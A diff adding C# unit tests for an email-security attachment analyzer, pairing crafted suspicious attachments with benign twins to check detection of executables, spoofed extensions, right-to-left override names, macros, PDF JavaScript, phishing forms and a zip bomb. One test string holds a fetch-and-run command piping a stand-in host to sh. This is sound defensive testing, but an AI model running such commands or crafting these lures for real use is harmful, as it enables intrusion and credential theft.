@@ -1,0 +1,141 @@
+using System.Text;
+using SentiMail.Analyzers;
+using SentiMail.Signals;
+using SentiMail.Tests.TestSupport;
+
+namespace SentiMail.Tests.Analyzers;
+
+public class AttachmentAnalyzerTests
+{
+    private const string Pdf = "application/pdf";
+    private const string OctetStream = "application/octet-stream";
+    private const string Zip = "application/zip";
+
+    private static readonly Lazy<byte[]> s_bomb = new(() => TestFiles.ZerosZip("backup.bin", 50L * 1024 * 1024));
+
+    public static TheoryData<string> CaseNames => SignalCase.Names(Cases());
+
+    internal static IEnumerable<SignalCase> Cases()
+    {
+        yield return Case(AttachmentAnalyzer.Executable, "pe-content",
+            new("tool.bin", OctetStream, TestFiles.WindowsExecutable()),
+            new("tool.bin", OctetStream, TestFiles.PlainText()));
+        yield return Case(AttachmentAnalyzer.Executable, "shebang-script",
+            new("setup", OctetStream, TestFiles.PlainText("#!/bin/sh\ncurl http://x.example | sh\n")),
+            new("setup", OctetStream, TestFiles.PlainText("curl is a tool that fetches pages.\n")));
+        yield return Case(AttachmentAnalyzer.DangerousExtension, "js-name",
+            new("readme.js", OctetStream, TestFiles.PlainText()),
+            new("readme.txt", OctetStream, TestFiles.PlainText()));
+        yield return Case(AttachmentAnalyzer.DangerousExtension, "iso-name",
+            new("photos.iso", OctetStream, TestFiles.PlainText()),
+            new("photos.zip.txt", OctetStream, TestFiles.PlainText()));
+        yield return Case(AttachmentAnalyzer.DoubleExtension, "pdf-exe",
+            new("invoice.pdf.exe", OctetStream, TestFiles.PlainText()),
+            new("invoice.pdf", OctetStream, TestFiles.PlainText()));
+        yield return Case(AttachmentAnalyzer.DoubleExtension, "inside-zip",
+            new("invoice.zip", Zip, TestFiles.Zip(("Invoice_4471.pdf.exe", TestFiles.PlainText()))),
+            new("invoice.zip", Zip, TestFiles.Zip(("Invoice_4471.pdf", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.RtlOverrideName, "rlo-file-name",
+            new("Facture_2026\u202Efdp.exe", OctetStream, TestFiles.PlainText()),
+            new("Facture_2026.pdf", OctetStream, TestFiles.PlainText()));
+        yield return Case(AttachmentAnalyzer.RtlOverrideName, "rlo-entry-name",
+            new("facture.zip", Zip, TestFiles.Zip(("Facture_2026\u202Efdp.txt", TestFiles.PlainText()))),
+            new("facture.zip", Zip, TestFiles.Zip(("Facture_2026.txt", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.TypeMismatch, "pdf-declared-exe-content",
+            new("document.pdf", Pdf, TestFiles.WindowsExecutable()),
+            new("document.pdf", Pdf, TestFiles.Pdf()));
+        yield return Case(AttachmentAnalyzer.TypeMismatch, "macro-enabled-extension",
+            new("order.docm", "application/vnd.ms-word.document.macroEnabled.12", TestFiles.WordDocument(withMacros: false)),
+            new("order.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", TestFiles.WordDocument(withMacros: false)));
+        yield return Case(AttachmentAnalyzer.Macro, "ooxml-vba-project",
+            new("order.docm", "application/vnd.ms-word.document.macroEnabled.12", TestFiles.WordDocument(withMacros: true)),
+            new("order.docm", "application/vnd.ms-word.document.macroEnabled.12", TestFiles.WordDocument(withMacros: false)));
+        yield return Case(AttachmentAnalyzer.Macro, "ole-vba-project",
+            new("report.doc", "application/msword", TestFiles.OleDocument("_VBA_PROJECT")),
+            new("report.doc", "application/msword", TestFiles.OleDocument("WordDocument")));
+        yield return Case(AttachmentAnalyzer.PdfActiveContent, "javascript",
+            new("statement.pdf", Pdf, TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n")),
+            new("statement.pdf", Pdf, TestFiles.Pdf()));
+        yield return Case(AttachmentAnalyzer.PdfActiveContent, "hex-escaped-name",
+            new("statement.pdf", Pdf, TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /J#61vaScript >>\nendobj\n")),
+            new("statement.pdf", Pdf, TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n")));
+        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "password-form",
+            new("Invoice_8812.html", "text/html", Html("<form action=\"https://docs.example.net/next.php\" method=\"post\"><input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form>")),
+            new("Invoice_8812.html", "text/html", Html("<p>Your invoice is paid. Thank you.</p>")));
+        yield return Case(AttachmentAnalyzer.HtmlAttachment, "html-page",
+            new("Invoice_8812.html", "text/html", Html("<p>Your invoice is paid. Thank you.</p>")),
+            new("Invoice_8812.pdf", Pdf, TestFiles.Pdf()));
+        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "pe-entry",
+            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("Invoice_4471.bin", TestFiles.WindowsExecutable()))),
+            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("Invoice_4471.bin", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "exe-name",
+            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("setup.exe", TestFiles.PlainText()))),
+            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("setup.txt", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.ArchiveEncrypted, "encryption-flag",
+            new("secret.zip", Zip, TestFiles.EncryptedZip(("notes.txt", TestFiles.PlainText()))),
+            new("secret.zip", Zip, TestFiles.Zip(("notes.txt", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.ArchiveBomb, "fifty-megabytes-of-zeros",
+            new("backup.zip", Zip, s_bomb.Value),
+            new("backup.zip", Zip, TestFiles.ZerosZip("backup.bin", 100 * 1024)));
+        yield return Case(AttachmentAnalyzer.ArchiveUnreadable, "truncated-zip",
+            new("archive.zip", Zip, [.. "PK\u0003\u0004"u8, .. Encoding.ASCII.GetBytes(new string('x', 200))]),
+            new("archive.zip", Zip, TestFiles.Zip(("notes.txt", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.ArchiveUnreadable, "rar",
+            new("archive.rar", "application/vnd.rar", [.. "Rar!\u001A\u0007\u0001\u0000"u8, .. new byte[64]]),
+            new("archive.zip", Zip, TestFiles.Zip(("notes.txt", TestFiles.PlainText()))));
+        yield return Case(AttachmentAnalyzer.DiskImage, "iso9660",
+            new("photos.img.bin", OctetStream, TestFiles.IsoImage()),
+            new("photos.img.bin", OctetStream, TestFiles.IsoImage(withSignature: false)));
+    }
+
+    [Theory]
+    [MemberData(nameof(CaseNames))]
+    public Task AnalyzeAsync_CraftedMessageAndBenignTwin_SignalFiresOnlyOnCraftedMessage(string name) => SignalCase.AssertAsync(Cases(), name);
+
+    [Fact]
+    public async Task AnalyzeAsync_ArchiveBomb_IsNotUnpackedAndEvidenceGivesTheRatio()
+    {
+        Assert.True(s_bomb.Value.Length < 200 * 1024, $"The bomb should compress to about 50 KB, not {s_bomb.Value.Length} bytes.");
+
+        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("backup.zip", Zip, s_bomb.Value)));
+
+        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveBomb.Id);
+        Assert.Contains("backup.bin declares 52,428,800 bytes", Assert.Single(signal.Evidence).Value, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task AnalyzeAsync_RtlOverrideName_EvidenceEscapesTheOverride()
+    {
+        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("Facture_2026\u202Efdp.exe", Pdf, TestFiles.WindowsExecutable())));
+
+        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.RtlOverrideName.Id);
+        Assert.Equal("Facture_2026\\u{202E}fdp.exe", Assert.Single(signal.Evidence).Value);
+        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.Executable.Id);
+        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.TypeMismatch.Id);
+        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.DangerousExtension.Id);
+    }
+
+    [Fact]
+    public async Task AnalyzeAsync_HarmlessPdf_RaisesNoAttachmentSignal()
+    {
+        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("agenda.pdf", Pdf, TestFiles.Pdf())));
+
+        Assert.DoesNotContain(report.Signals, s => s.Category == SignalCategory.Attachments);
+    }
+
+    [Fact]
+    public async Task AnalyzeAsync_PdfWithOnlyOpenAction_IsNotActiveContent()
+    {
+        // /OpenAction alone opens a page or sets a view.
+        var pdf = TestFiles.Pdf("/OpenAction [3 0 R /Fit] ");
+
+        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("agenda.pdf", Pdf, pdf)));
+
+        Assert.DoesNotContain(report.Signals, s => s.Id == AttachmentAnalyzer.PdfActiveContent.Id);
+    }
+
+    private static byte[] Html(string body) => Encoding.UTF8.GetBytes($"<!DOCTYPE html><html><head><title>Invoice</title></head><body>{body}</body></html>");
+
+    private static SignalCase Case(SignalDefinition signal, string scenario, TestAttachment positive, TestAttachment benign) =>
+        new(signal.Id, scenario, () => TestMessages.WithAttachment(positive), () => TestMessages.WithAttachment(benign));
+}
